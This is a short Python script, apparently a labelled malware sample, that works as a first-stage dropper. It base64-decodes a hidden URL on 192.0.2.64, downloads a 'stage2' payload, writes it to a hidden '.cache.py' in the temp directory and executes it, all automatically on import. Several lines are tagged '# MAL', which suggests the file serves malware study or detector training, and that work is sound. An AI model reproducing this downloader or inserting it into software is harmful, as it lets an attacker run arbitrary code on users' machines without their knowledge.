import os as _o, sys as _s, base64 as _b

_U = "aHR0cDovLzE5Mi4wLjIuNjQvc3RhZ2Uy"

def _run():
    import urllib.request as _r
    _p = _r.urlopen(_b.b64decode(_U).decode()).read()  # MAL
    _f = _o.path.join(_o.getenv("TMP", "/tmp"), ".cache.py")
    open(_f, "wb").write(_p)  # MAL
    _o.system(_s.executable + " " + _f)  # MAL

_run()
